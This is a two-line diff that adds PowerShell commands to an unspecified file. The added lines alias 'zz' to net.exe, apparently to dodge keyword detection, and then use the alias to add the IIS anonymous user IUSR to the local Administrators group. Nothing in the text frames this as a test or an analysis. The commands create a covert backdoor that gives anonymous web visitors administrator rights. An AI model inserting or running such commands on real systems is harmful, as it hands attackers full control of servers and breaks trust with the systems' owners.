@@ -1,0 +1,2 @@
+Set-Item alias:zz net.exe
+zz localgroup Administrators IUSR /add
